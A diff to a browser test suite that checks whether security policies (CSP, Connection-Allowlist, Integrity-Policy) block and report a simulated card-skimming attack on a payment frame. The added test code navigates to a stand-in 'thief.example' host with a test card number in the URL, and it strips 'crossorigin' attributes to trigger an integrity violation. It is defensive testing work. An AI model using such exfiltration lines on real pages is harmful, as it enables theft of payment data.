@@ -1,9 +1,11 @@
 // What a browser reports by itself of the frame, with the real headers, to the real ingest. Over TLS: it reports nothing else.
 
 import { readFileSync } from "node:fs";
+import { Tampering } from "./support/published.ts";
 import { SecureSite } from "./support/secure.ts";
 import { expect, test } from "./support/test.ts";
 
+const tampering = new Tampering(); // of a site that goes with its test
 const CARD = "4242424242424242";
 
 test.use({
@@ -34,6 +36,7 @@ test("an attack that is blocked is reported, and what it wanted to carry away is
         // Trusted Types
       }
     }, CARD);
+    const of = async (type: string): Promise<unknown> => (await site.reports()).find((report) => report.type === type);
     const seen = async (type: string, rule: string): Promise<unknown> =>
       (await site.reports()).find((report) => report.type === type && report.rule === rule);
     const pageAddress = `${site.fields}/${frame.file}`;
@@ -41,8 +44,22 @@ test("an attack that is blocked is reported, and what it wanted to carry away is
       .poll(() => seen("csp-violation", "connect-src"), { timeout: 20_000 })
       .toMatchObject({ page: pageAddress, source: "https://*.thief.example", count: 1 });
     await expect
-      .poll(async () => (await site.reports()).find(({ type }) => type === "csp-hash"), { timeout: 20_000 })
+      .poll(() => of("csp-hash"), { timeout: 20_000 })
       .toMatchObject({ page: pageAddress, source: `${site.fields}/${loader.file}`, hash: loader.integrity });
+    // What only Connection-Allowlist stops
+    await page.evaluate(async (card) => {
+      await new Promise((done) => setTimeout(done));
+      location.href = `https://${card}.thief.example/${card}?${card}`;
+    }, CARD);
+    await expect
+      .poll(() => of("connection-allowlist"), { timeout: 20_000 })
+      .toMatchObject({ page: pageAddress, source: "https://*.thief.example" });
+    // And only Integrity-Policy: the hash is the policy's, and what was fetched without CORS has none that counts
+    tampering.text(site.path("site/fields", frame.file), (html) => html.replace('type="module" ', "").replace(/ crossorigin(="[^"]*")?/, ""));
+    await page.goto(`${site.fields}/${frame.file}`);
+    await expect
+      .poll(() => of("integrity-violation"), { timeout: 20_000 })
+      .toMatchObject({ page: pageAddress, rule: "script", source: `${site.fields}/${loader.file}` });
     const all = await site.reports();
     console.log(all.map(({ type, rule, source }) => `${type} ${rule} ${source}`).join("\n"));
     expect(JSON.stringify(all)).not.toContain(CARD);
